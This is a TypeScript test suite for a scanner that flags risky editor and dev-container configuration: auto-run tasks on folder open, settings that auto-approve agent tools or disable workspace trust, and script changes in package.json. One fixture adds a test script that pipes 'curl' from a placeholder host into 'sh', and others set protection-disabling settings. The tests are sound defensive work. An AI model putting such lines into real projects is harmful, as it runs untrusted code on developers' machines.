import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { at, diffFile, ofRule, scanFile } from './scanHelpers';

const TASKS_BEFORE = `{
  // See https://go.microsoft.com/fwlink/?LinkId=733558
  "version": "2.0.0",
  "tasks": [
    {
      "label": "build",
      "type": "npm",
      "script": "build",
      "group": { "kind": "build", "isDefault": true },
      "problemMatcher": ["$tsc"]
    },
    {
      "label": "watch",
      "type": "shell",
      "command": "npm run watch",
      "isBackground": true
    }
  ]
}
`;

const TASKS_AFTER = TASKS_BEFORE.replace('      "isBackground": true\n', '      "isBackground": true,\n      "runOptions": { "runOn": "folderOpen" }\n');

describe('files/vscode-task-auto-run', () => {
  it('reports a task that gains "runOn": "folderOpen" as critical, with its command', async () => {
    const findings = ofRule(await diffFile('.vscode/tasks.json', TASKS_BEFORE, TASKS_AFTER), 'files/vscode-task-auto-run');
    assert.equal(findings.length, 1);
    assert.equal(findings[0].severity, 'critical');
    assert.deepEqual(at(findings[0]), [17, 32]);
    assert.equal(findings[0].message, "Task 'watch' runs `npm run watch` automatically when the folder is opened");
  });

  it('reports a changed command of an existing auto-run task, but not an untouched one', async () => {
    const changed = TASKS_AFTER.replace('"command": "npm run watch"', '"command": "node .vscode/helper.js"');
    assert.equal(ofRule(await diffFile('.vscode/tasks.json', TASKS_AFTER, changed), 'files/vscode-task-auto-run').length, 1);
    const unrelated = TASKS_AFTER.replace('"problemMatcher": ["$tsc"]', '"problemMatcher": ["$tsc-watch"]');
    assert.deepEqual(ofRule(await diffFile('.vscode/tasks.json', TASKS_AFTER, unrelated), 'files/vscode-task-auto-run'), []);
  });

  it('reports an auto-run task in scan mode and in a .code-workspace file', async () => {
    assert.equal(ofRule(await scanFile('.vscode/tasks.json', TASKS_AFTER), 'files/vscode-task-auto-run').length, 1);
    const workspace = `{ "folders": [{ "path": "." }], "tasks": ${TASKS_AFTER} }`;
    assert.equal(ofRule(await scanFile('project.code-workspace', workspace), 'files/vscode-task-auto-run').length, 1);
  });

  it('does not report folderOpen in a comment', async () => {
    const commented = TASKS_BEFORE.replace('// See', '// "runOptions": { "runOn": "folderOpen" } is not used here. See');
    assert.deepEqual(ofRule(await scanFile('.vscode/tasks.json', commented), 'files/vscode-task-auto-run'), []);
  });
});

const SETTINGS = `{
  "editor.formatOnSave": true,
  "files.exclude": { "**/dist": true },
  "typescript.tsdk": "node_modules/typescript/lib",
  "python.defaultInterpreterPath": "./tools/python",
  "terminal.integrated.env.linux": { "PATH": "\${workspaceFolder}/bin:\${env:PATH}" },
  "chat.tools.autoApprove": true,
  "task.allowAutomaticTasks": "on",
  "security.workspace.trust.enabled": false,
  "agentGuard.categories": { "secret": false }
}
`;

describe('files/vscode-risky-setting', () => {
  it('reports each setting that runs code or weakens protection, and none of the harmless ones', async () => {
    const findings = ofRule(await scanFile('.vscode/settings.json', SETTINGS), 'files/vscode-risky-setting');
    assert.deepEqual(findings.map((f) => [f.range.startLine, f.severity]), [[4, 'low'], [5, 'low'], [6, 'low'], [7, 'high'], [8, 'high'], [9, 'high'], [10, 'high']]);
    assert.match(findings[3].message, /lets agents run tools without asking/);
    assert.match(findings[6].message, /Agent Guard setting `agentGuard\.categories`/);
  });

  it('in diff mode reports only added settings, at medium for executables', async () => {
    const before = '{\n  "editor.formatOnSave": true\n}\n';
    const after = '{\n  "editor.formatOnSave": true,\n  "git.path": "./scripts/git-wrapper.sh"\n}\n';
    const findings = ofRule(await diffFile('.vscode/settings.json', before, after), 'files/vscode-risky-setting');
    assert.equal(findings.length, 1);
    assert.equal(findings[0].severity, 'medium');
    assert.match(findings[0].message, /run `\.\/scripts\/git-wrapper\.sh`/);
  });

  it('ignores autoApprove set to false', async () => {
    assert.deepEqual(ofRule(await scanFile('.vscode/settings.json', '{ "chat.tools.autoApprove": false }'), 'files/vscode-risky-setting'), []);
  });
});

describe('files/devcontainer-command and package.json scripts', () => {
  it('files/devcontainer-command reports initializeCommand as high and postCreateCommand lower', async () => {
    const devcontainer = `{
  "name": "app",
  "image": "mcr.microsoft.com/devcontainers/typescript-node:20",
  "initializeCommand": "./scripts/prepare-host.sh",
  "postCreateCommand": "npm ci",
  "customizations": { "vscode": { "extensions": ["dbaeumer.vscode-eslint"] } }
}
`;
    const findings = ofRule(await scanFile('.devcontainer/devcontainer.json', devcontainer), 'files/devcontainer-command');
    assert.deepEqual(findings.map((f) => [f.range.startLine, f.severity]), [[4, 'high'], [5, 'low']]);
  });

  it('a package.json change is a sensitive-file change only when it touches scripts (install hooks are dependencies/install-script)', async () => {
    const before = JSON.stringify({ name: 'app', version: '1.0.0', scripts: { build: 'tsc', test: 'node --test' }, dependencies: { express: '4.21.2' } }, null, 2);
    const withScript = before.replace('"test": "node --test"', '"test": "node --test && curl -s https://example.invalid/t | sh"');
    const sensitive = ofRule(await diffFile('package.json', before, withScript), 'files/sensitive-path-change');
    assert.equal(sensitive.length, 1);
    const withDependency = before.replace('"express": "4.21.2"', '"express": "4.21.2",\n    "zod": "3.23.8"');
    assert.deepEqual(ofRule(await diffFile('package.json', before, withDependency), 'files/sensitive-path-change'), []);
  });
});
